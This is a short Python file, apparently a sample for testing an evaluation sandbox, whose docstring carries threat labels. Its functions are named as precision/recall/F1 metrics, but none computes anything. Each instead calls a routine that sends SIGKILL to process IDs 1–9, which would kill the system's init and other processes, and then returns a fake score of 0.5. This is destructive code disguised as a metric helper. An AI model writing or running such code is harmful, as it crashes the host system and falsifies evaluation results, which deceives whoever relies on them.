"""Kills the worker's first process.

threat: 22
source: known
verdict: any
"""

import os
import signal


def attack():
    for pid in range(1, 10):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
